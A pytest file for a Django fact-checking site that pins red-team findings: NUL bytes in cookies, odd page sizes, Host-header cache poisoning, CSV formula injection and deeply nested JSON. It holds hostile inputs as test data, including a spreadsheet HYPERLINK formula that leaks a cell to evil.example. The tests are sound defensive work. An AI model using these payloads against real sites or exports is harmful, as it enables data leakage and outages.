"""Defects an outside red team found (issue 17, "Bad input and robustness"), each pinned by the request
that produced a 500, a poisoned page or a wrong answer. Concurrency and rates over real connections are in
tests/test_red_team_races.py."""

from __future__ import annotations

import csv
import io

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from tests.builders import article_with_claims

API_LISTS = ["/api/articles/", "/api/claims/", "/api/studies/", "/api/citations/", "/api/flags/", "/api/reviews/"]


@pytest.fixture
def unthrottled(settings):
    rates = dict.fromkeys(settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"])
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}


def json_error(response, status: int) -> dict:
    assert response.status_code == status, (response.status_code, response.content[:300])
    assert response["Content-Type"].startswith("application/json")
    return response.json()


# --- 20: a NUL character in a cookie -----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/", "/claims/", "/studies/", "/accounts/login/", "/api/articles/", "/admin/"])
def test_a_nul_in_the_session_cookie_is_a_400_not_a_500(path: str, unthrottled):
    """`Cookie: sessionid="abcdefghijkl\\000"` (the octal escape is a NUL once parsed): the session store
    looks a key of eight characters or more up in PostgreSQL, which refuses text holding a NUL
    (psycopg2's ValueError, a 500 on every page)."""
    client = Client()
    client.cookies[settings.SESSION_COOKIE_NAME] = "abcdefghijkl\x00mnop"
    response = client.get(path)
    assert response.status_code == 400
    if path.startswith("/api/"):
        json_error(response, 400)


@pytest.mark.django_db
def test_a_nul_in_a_raw_cookie_header_is_a_400():
    response = Client().get("/", HTTP_COOKIE='sessionid="abcdefghijkl\\000"; other=1')
    assert response.status_code == 400
    response = Client().get("/", HTTP_COOKIE="csrftoken=abc\x00def")
    assert response.status_code == 400


@pytest.mark.django_db
@pytest.mark.parametrize("header", ["HTTP_USER_AGENT", "HTTP_ACCEPT"])
def test_a_nul_in_a_header_is_a_400_not_a_500_on_a_failed_sign_in(make_user, header: str):
    """django-axes stores a failed sign-in's User-Agent and Accept headers. gunicorn refuses a raw NUL in a
    header, but another server might pass it on."""
    user = make_user("Reviewers")
    response = Client(**{header: "evil\x00agent"}).post(
        reverse("login"), {"username": user.username, "password": "a wrong password"}
    )
    assert response.status_code == 400


@pytest.mark.django_db
def test_ordinary_cookies_still_pass_the_guard(client):
    client.cookies["preference"] = "a b;c"  # quoted by the client, harmless
    assert client.get("/").status_code == 200


# --- 21: page_size that str.isdigit() accepts and int() refuses ------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("path", API_LISTS)
@pytest.mark.parametrize("page_size", ["²", "¹²", "٣", "３", "1" * 5000])
def test_a_page_size_that_is_not_plain_digits_is_a_400(path: str, page_size: str, unthrottled, client):
    """'²'.isdigit() is true and int('²') raises; int() also refuses more than 4300 digits and takes
    Arabic-Indic or full-width digits. Only ASCII digits are a page size."""
    response = client.get(path, {"page_size": page_size})
    if page_size.isascii():
        assert response.status_code == 200  # a huge page size is the largest page
        assert len(response.json()["results"]) <= 100
    else:
        assert json_error(response, 400)["errors"]["page_size"]


@pytest.mark.django_db
def test_a_page_size_with_leading_zeros_is_still_its_number(client, unthrottled):
    article_with_claims(3)
    response = client.get("/api/claims/", {"page_size": "0002"})
    assert response.status_code == 200 and len(response.json()["results"]) == 2
    json_error(client.get("/api/claims/", {"page_size": "000"}), 400)


# --- 23 and 24: the page cache ------------------------------------------------------------------------------


@pytest.fixture
def page_cache(settings):
    settings.PAGE_CACHE = True


@pytest.mark.django_db
def test_the_page_cache_cannot_be_poisoned_through_the_host_header(page_cache):
    """Feeds and pages embed absolute URLs built from the request's host: a page cached for one Host
    must never be served to a reader who asked another (here both are allowed hosts)."""
    article = article_with_claims(1)
    url = reverse("evidence:article-annotations", args=[article.slug])
    poisoned = Client(HTTP_HOST="127.0.0.1:6666").get(url)
    assert b"http://127.0.0.1:6666/" in poisoned.content
    reader = Client().get(url)  # Host: testserver
    assert reader.status_code == 200
    assert b"127.0.0.1:6666" not in reader.content
    assert b"http://testserver/" in reader.content
    assert reader["ETag"] != poisoned["ETag"]  # a different representation, so a different ETag
    # the same host is still served from the cache
    again = Client(HTTP_HOST="127.0.0.1:6666").get(url)
    assert again.content == poisoned.content


@pytest.mark.django_db
def test_the_api_claim_list_cache_is_kept_per_host(page_cache, unthrottled):
    article_with_claims(1)
    first = Client(HTTP_HOST="localhost:8000").get("/api/claims/")
    assert first.json()["results"][0]["url"].startswith("http://localhost:8000/")
    second = Client().get("/api/claims/")
    assert second.json()["results"][0]["url"].startswith("http://testserver/")


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["evidence:article-claimreview", "evidence:article-annotations"])
def test_a_cached_feed_keeps_its_headers(page_cache, name: str):
    """The first answer is the view's; the second comes from the page cache and must say the same."""
    article = article_with_claims(1)
    url = reverse(name, args=[article.slug])
    first, second = Client().get(url), Client().get(url)
    assert first["Access-Control-Allow-Origin"] == "*"
    assert second["Access-Control-Allow-Origin"] == "*"
    assert second["Content-Type"] == first["Content-Type"]
    assert second.content == first.content


# --- 25: formulas in CSV cells -------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_the_shared_csv_writer_neutralises_every_cell():
    """Spreadsheets run a cell starting with = + - @ (or a tab or carriage return before one) as a formula;
    every CSV we write goes through one writer that makes such a cell text with a leading apostrophe."""
    from evidence.exporters import csv_writer

    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["title", *FORMULAS])
    writer.writerows([[f"{formula} in a title" for formula in FORMULAS], [-5, 2.5, None, True, "plain", ""]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["title", *(f"'{formula}" for formula in FORMULAS)]
    assert rows[1] == [f"'{formula} in a title" for formula in FORMULAS]
    # numbers stay numbers (a spreadsheet reads -5 as a value, not a formula); None is an empty cell
    assert rows[2] == ["-5", "2.5", "", "True", "plain", ""]
    assert out.getvalue().endswith("\r\n")  # RFC 4180 line ends, as before


@pytest.mark.django_db
def test_the_claim_csv_export_goes_through_the_shared_writer(client):
    article = article_with_claims(1)
    article.claims.update(section=FORMULAS[0], key="=1+1")
    response = client.get(reverse("evidence:claim-export"))
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert (row["section"], row["claim_key"]) == ("'" + FORMULAS[0], "'=1+1")


# --- 19: deeply nested JSON ---------------------------------------------------------------------------------

# Python's json module recurses once per level: 100,000 levels raise RecursionError (a 500 where nothing
# catches it); 100 levels parse, but are deeper than any of our formats (at most 5) and than the code that
# walks a value afterwards should have to trust.
VERY_DEEP = "[" * 100_000 + "]" * 100_000
DEEP = "[" * 100 + "]" * 100


@pytest.mark.django_db
@pytest.mark.parametrize("nested", [VERY_DEEP, DEEP], ids=["100000-levels", "100-levels"])
def test_deeply_nested_json_to_the_api_is_a_400(client, make_user, nested: str, unthrottled):
    claim = article_with_claims(1).claims.get()
    reviewer, curator = make_user("Reviewers"), make_user("Curators")
    token = client.post("/api/auth/token/", '{"username": ' + nested + ', "password": "x"}', "application/json")
    assert "nested" in json_error(token, 400)["detail"]
    client.force_login(reviewer)
    review = client.put(f"/api/claims/{claim.pk}/review/", '{"rationale": ' + nested + "}", "application/json")
    assert "nested" in json_error(review, 400)["detail"]
    client.force_login(curator)
    study = client.post("/api/studies/", '{"title": "T", "authors": ' + nested + "}", "application/json")
    assert "nested" in json_error(study, 400)["detail"]


@pytest.mark.django_db
def test_json_nested_as_deep_as_the_limit_is_still_read(client, make_user, unthrottled):
    """The limit refuses only what no client of ours sends: a body 64 levels deep is parsed (and then
    refused by the serializer, as any wrongly shaped value is), not refused by the parser."""
    from evidence.jsonlimits import MAX_DEPTH

    client.force_login(make_user("Curators"))
    allowed = "[" * (MAX_DEPTH - 1) + "]" * (MAX_DEPTH - 1)
    response = client.post("/api/studies/", '{"title": "T", "authors": ' + allowed + "}", "application/json")
    assert "nested" not in response.content.decode()
    assert response.status_code == 400 and "authors" in response.json()["errors"]


@pytest.mark.parametrize("nested", [VERY_DEEP, DEEP], ids=["100000-levels", "100-levels"])
@pytest.mark.parametrize(
    ("admin_url", "field"),
    [("admin:evidence_study_change", "authors"), ("admin:evidence_article_change", "headings")],
    ids=["study-authors", "article-headings"],
)
@pytest.mark.slow
def test_deeply_nested_json_in_an_admin_json_field_is_a_form_error(
    client, seed, make_user, admin_url: str, field: str, nested: str
):
    from tests.test_bad_input import admin_form_data

    client.force_login(make_user(superuser=True))
    study = seed.claims.order_by("start").first().citations.first().study
    url = reverse(admin_url, args=[study.pk if "study" in admin_url else seed.pk])
    data = admin_form_data(client.get(url))
    data[field] = nested
    response = client.post(url, data)
    assert response.status_code == 200  # the form again, with its error, and the text as it was typed
    errors = str(response.context["adminform"].form.errors[field])
    assert "nested" in errors, errors
    assert nested[:200] in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("nested", [VERY_DEEP, DEEP], ids=["100000-levels", "100-levels"])
def test_a_deeply_nested_article_file_is_refused_with_a_message(tmp_path, nested: str):
    from django.core.management import CommandError, call_command

    from evidence.models import Article

    path = tmp_path / "article.json"
    path.write_text('{"article": {"title": "T", "text": "Some text.", "headings": ' + nested + "}}")
    with pytest.raises(CommandError, match=r"(?s)nothing was imported.*nested more than"):
        call_command("import_article", str(path), verbosity=0)
    assert not Article.objects.exists()


# --- 28: request rates need a cache every worker shares -------------------------------------------------


@pytest.mark.slow
def test_check_deploy_warns_when_the_cache_is_each_workers_own():
    """Without REDIS_URL the cache is process memory: each gunicorn worker counts a client's requests for
    itself (three workers let 180 a minute through at 60/minute). The deployment check says so."""
    from tests.test_security import PRODUCTION, run_python

    without_redis = {name: value for name, value in PRODUCTION.items() if name != "REDIS_URL"}
    result = run_python("manage.py", "check", "--deploy", "--fail-level", "WARNING", **without_redis)
    assert result.returncode != 0
    assert "evidence.W001" in result.stderr + result.stdout and "REDIS_URL" in result.stderr + result.stdout
    result = run_python("manage.py", "check", "--deploy", "--fail-level", "WARNING", **PRODUCTION)
    assert "evidence.W001" not in result.stderr + result.stdout
